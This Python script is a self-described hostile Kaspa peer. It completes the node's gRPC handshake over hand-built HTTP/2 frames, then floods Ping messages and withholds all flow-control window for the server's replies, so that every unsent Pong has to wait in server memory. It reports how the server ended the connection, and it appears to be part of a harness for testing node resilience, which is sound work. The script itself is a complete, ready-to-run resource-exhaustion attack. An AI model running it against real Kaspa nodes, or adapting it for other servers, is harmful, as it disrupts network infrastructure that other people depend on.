#!/usr/bin/env python3
"""Hostile Kaspa peer: completes the handshake (Version, Verack, Ready sent blindly, without
waiting), then sends Kaspa Ping messages as fast as the server's HTTP/2 windows allow and
never reads the Pongs: it processes SETTINGS, PING and WINDOW_UPDATE frames (so it can keep
sending) but never grants the server any window for its DATA, so every Pong the server
makes has to wait in the server.

usage: h2_kaspa_pings.py HOST PORT MAX_PINGS SECONDS
Prints one JSON line {"event":"kaspa_pings","pings":N,"ended":"goaway|rst|eof"|null,
"secs":S}: N Pings handed to the socket (at most MAX_PINGS) and how the server ended the
connection, waiting for that until SECONDS have passed (ended null: it never did).

HTTP/2 framing comes from h2_gzip_bomb.py; KaspadMessage fields from
shared/reference/kaspa-proto (version = 20, verack = 19, ready = 50, ping = 16).
"""
import json
import os
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from h2_gzip_bomb import (DATA, GOAWAY, HEADERS, PING, PREFACE, RST_STREAM,  # noqa: E402
                          SETTINGS, WINDOW_UPDATE, frame, literal, varint)


def field(num, payload):
    return varint(num << 3 | 2) + varint(len(payload)) + payload


def grpc(msg):
    return b"\x00" + struct.pack(">I", len(msg)) + msg


VERSION = field(20, b"".join([
    b"\x08" + varint(10),                        # protocolVersion
    b"\x18" + varint(int(time.time() * 1000)),   # timestamp
    field(5, os.urandom(16)),                    # id
    field(6, b"/h2_kaspa_pings:0/"),             # userAgent
    field(10, b"kaspa-mainnet"),                 # network
]))
HELLO = grpc(VERSION) + grpc(field(19, b"")) + grpc(field(50, b""))
PING_MSG = grpc(field(16, b"\x08" + varint(0x1234567890ABCDEF)))

REQUEST = b"".join(literal(k, v) for k, v in [
    (":method", "POST"), (":scheme", "http"), (":path", "/protowire.P2P/MessageStream"),
    (":authority", "kaspa"), ("content-type", "application/grpc"), ("te", "trailers"),
])


def main():
    host, port, max_pings, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    s = socket.create_connection((host, port), timeout=10)
    s.setblocking(False)
    buf = b""
    conn_win = stream_win = peer_initial = 65535
    max_frame = 16384
    ended = None
    out = bytearray(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 4, 1, REQUEST))
    pending = bytearray(HELLO)  # gRPC bytes for stream 1, sent within the windows
    per_frame = max_frame // len(PING_MSG)
    pings = queued = 0
    t0 = time.monotonic()
    while ended is None and time.monotonic() - t0 < secs:
        # read whatever came: control frames matter, DATA (the Pongs) is dropped unread
        try:
            chunk = s.recv(1 << 20)
            if not chunk:
                ended = "eof"
                break
            buf += chunk
        except BlockingIOError:
            pass
        except OSError:
            ended = "eof"
            break
        while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
            n = int.from_bytes(buf[:3], "big")
            ftype, flags = buf[3], buf[4]
            sid = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
            payload, buf = buf[9:9 + n], buf[9 + n:]
            if ftype == SETTINGS and not flags & 1:
                for i in range(0, len(payload), 6):
                    ident, val = struct.unpack(">HI", payload[i:i + 6])
                    if ident == 4:
                        stream_win += val - peer_initial
                        peer_initial = val
                    elif ident == 5:
                        max_frame = val
                out += frame(SETTINGS, 1, 0)
            elif ftype == WINDOW_UPDATE:
                inc = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
                if sid == 0:
                    conn_win += inc
                else:
                    stream_win += inc
            elif ftype == PING and not flags & 1:
                out += frame(PING, 1, 0, payload)
            elif ftype == GOAWAY:
                ended = "goaway"
            elif ftype == RST_STREAM:
                ended = "rst"
        if ended:
            break
        # top up: Pings behind the handshake, as much as the windows take
        while len(pending) < 1 << 16 and queued < max_pings:
            k = min(per_frame, max_pings - queued)
            pending += PING_MSG * k
            queued += k
        while pending and len(out) < 1 << 20:
            room = min(conn_win, stream_win, max_frame, len(pending))
            if room <= 0:
                break
            out += frame(DATA, 0, 1, bytes(pending[:room]))
            del pending[:room]
            conn_win -= room
            stream_win -= room
        if out:
            try:
                n = s.send(out)
                del out[:n]
            except BlockingIOError:
                time.sleep(0.001)
            except OSError:
                ended = "eof"
                break
        else:
            time.sleep(0.001)  # all out (or windows shut): keep reading until the end
    pings = max(0, queued - len(pending) // len(PING_MSG))
    s.close()
    print(json.dumps({"event": "kaspa_pings", "pings": pings, "ended": ended,
                      "secs": round(time.monotonic() - t0, 2)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
